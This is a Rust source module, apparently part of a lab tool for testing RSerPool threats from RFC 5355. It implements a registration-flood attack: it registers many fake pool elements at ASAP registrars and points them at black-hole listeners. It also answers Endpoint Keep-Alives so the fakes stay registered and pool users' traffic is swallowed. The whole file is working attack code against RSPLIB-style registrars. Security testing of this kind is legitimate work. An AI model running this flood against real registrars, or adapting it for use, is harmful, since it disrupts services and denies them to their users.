//! `reg-flood` (RFC 5355 §2.1, §2.2): registrations of fake PEs with
//! fresh identifiers whose address accepts associations and ignores what
//! arrives (black holes). The fake PEs answer the registrar's Endpoint
//! Keep-Alives (else RSPLIB drops them after its keep-alive timeout) and
//! stay registered until the run ends: closing the association makes the
//! registrar remove them.

use std::collections::BTreeSet;
use std::net::{IpAddr, SocketAddr};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

use anyhow::Result;
use client_core::policy::Rng;
use client_core::wire::{AsapMessage, PoolElementId, PoolHandle, SelectionPolicy};
use rserpool_sctp::SctpAssociation;

use super::{fresh_pe_id, Act, Attack, Common, Ctx};
use crate::fields;
use crate::messages::{self, parse_policy};
use crate::net;
use crate::output::Output;
use crate::stop::Stop;

/// Longest registration life accepted (1 h).
pub const MAX_LIFE_MS: u32 = 3_600_000;

#[derive(Clone, Debug, clap::Args)]
pub struct Args {
    /// Registrars' ASAP endpoints (one association each; registrations
    /// go to them in turn).
    #[command(flatten)]
    pub common: Common,
    /// Policy of the fake PEs; must match the pool's (RSPLIB refuses
    /// another with cause 0x0005): round-robin, random, least-used:LOAD, …
    #[arg(long, value_name = "POLICY", default_value = "round-robin", value_parser = parse_policy)]
    pub policy: SelectionPolicy,
    /// Registration life in milliseconds (RSPLIB PEs: 90000), ≤ 3600000.
    #[arg(long = "life-ms", value_name = "MS", default_value_t = 90_000)]
    pub life_ms: u32,
    /// Further user addresses of the fake PEs (besides the local address
    /// of the association; RSPLIB keeps only those it sees on it).
    #[arg(long = "pe-addr", value_name = "IP")]
    pub pe_addrs: Vec<IpAddr>,
    /// Do not answer Endpoint Keep-Alives: the registrar drops the fake
    /// PEs after its keep-alive timeout.
    #[arg(long = "no-keepalive-ack")]
    pub no_keepalive_ack: bool,
    /// Local address of the registration associations (the lab's
    /// attackers' address, so a lab allow-list can tell them apart);
    /// default: whatever the kernel picks.
    #[arg(long, value_name = "IP")]
    pub source: Option<IpAddr>,
    /// Exit as soon as the count is reached (the fake PEs vanish with the
    /// associations) instead of holding them until the duration ends.
    #[arg(long = "no-hold")]
    pub no_hold: bool,
}

#[derive(Default)]
pub struct Tally {
    pub accepted: AtomicU64,
    pub refused: AtomicU64,
    pub keepalives: AtomicU64,
}

struct Link {
    assoc: Arc<SctpAssociation>,
    target: SocketAddr,
    local: IpAddr,
}

struct RegFlood {
    links: Vec<Link>,
    pool: PoolHandle,
    port: u16,
    policy: SelectionPolicy,
    life_ms: u32,
    extra: Vec<IpAddr>,
    used: BTreeSet<u32>,
}

impl Attack for RegFlood {
    async fn act(&mut self, seq: u64, rng: &mut Rng, _out: &Output) -> Result<Act> {
        let id = fresh_pe_id(rng, &mut self.used);
        let link = &self.links[(seq % self.links.len() as u64) as usize];
        let mut addrs = vec![link.local];
        addrs.extend(self.extra.iter().filter(|a| **a != link.local));
        let pe = messages::pool_element(id, addrs, self.port, self.policy.clone(), self.life_ms);
        net::send_asap(&link.assoc, &messages::registration(&self.pool, pe)).await?;
        Ok((
            "register",
            fields! {
                "pe_id" => PoolElementId(id).to_string(),
                "target" => link.target.to_string(),
                "port" => self.port,
            },
        ))
    }
}

/// Answers Endpoint Keep-Alives (unless `ack` is false) and counts the
/// registrar's answers on a registration association.
pub fn spawn_registrar_reader(
    assoc: Arc<SctpAssociation>,
    ack: bool,
    tally: Arc<Tally>,
    out: Output,
) -> tokio::task::JoinHandle<()> {
    tokio::spawn(async move {
        while let Ok(m) = net::recv_asap(&assoc).await {
            match m {
                AsapMessage::EndpointKeepAlive(k) => {
                    tally.keepalives.fetch_add(1, Ordering::Relaxed);
                    if let (true, Some(id)) = (ack, k.pe_id) {
                        let _ =
                            net::send_asap(&assoc, &messages::keep_alive_ack(&k.pool_handle, id))
                                .await;
                    }
                }
                AsapMessage::RegistrationResponse(r) if r.rejected => {
                    tally.refused.fetch_add(1, Ordering::Relaxed);
                    let causes: Vec<String> = r
                        .error
                        .iter()
                        .flat_map(|e| e.causes.iter())
                        .map(|c| format!("0x{:04x}", c.code.0))
                        .collect();
                    out.event(
                        "registration-refused",
                        serde_json::json!({"pe_id": r.pe_id.to_string(), "causes": causes}),
                    );
                }
                AsapMessage::RegistrationResponse(_) => {
                    tally.accepted.fetch_add(1, Ordering::Relaxed);
                }
                _ => {}
            }
        }
        out.event("association-closed", assoc_peer(&assoc));
    })
}

fn assoc_peer(assoc: &SctpAssociation) -> String {
    assoc
        .local_addr()
        .map(|a| format!("local {a}"))
        .unwrap_or_default()
}

pub async fn run(a: Args, stop: Stop) -> Result<()> {
    let mut ctx = Ctx::new(&a.common, stop);
    let targets = ctx.targets.clone();
    let source = a.source.map(|ip| SocketAddr::new(ip, 0));
    let Some(((port, ignored, listener), links)) = ctx
        .setup(async {
            let l = net::ignoring_listener()?;
            let mut links = Vec::new();
            for t in &targets {
                let assoc = net::connect_patiently(source, *t).await?;
                let local = assoc.local_addr()?.ip();
                links.push(Link {
                    assoc: Arc::new(assoc),
                    target: *t,
                    local,
                });
            }
            Ok((l, links))
        })
        .await
    else {
        return Ok(());
    };
    let tally = Arc::new(Tally::default());
    let readers: Vec<_> = links
        .iter()
        .map(|l| {
            spawn_registrar_reader(
                l.assoc.clone(),
                !a.no_keepalive_ack,
                tally.clone(),
                ctx.out.clone(),
            )
        })
        .collect();
    let mut attack = RegFlood {
        links,
        pool: ctx.pool.clone(),
        port,
        policy: a.policy.clone(),
        life_ms: a.life_ms.min(MAX_LIFE_MS),
        extra: a.pe_addrs.clone(),
        used: BTreeSet::new(),
    };
    let f = super::run_paced(&mut attack, &mut ctx, !a.no_hold).await;
    for r in readers {
        r.abort();
    }
    listener.abort();
    super::done(
        &ctx,
        f,
        fields! {
            "accepted" => tally.accepted.load(Ordering::Relaxed),
            "refused" => tally.refused.load(Ordering::Relaxed),
            "keepalives" => tally.keepalives.load(Ordering::Relaxed),
            "user_messages_ignored" => ignored.load(Ordering::Relaxed),
        },
    );
    Ok(())
}
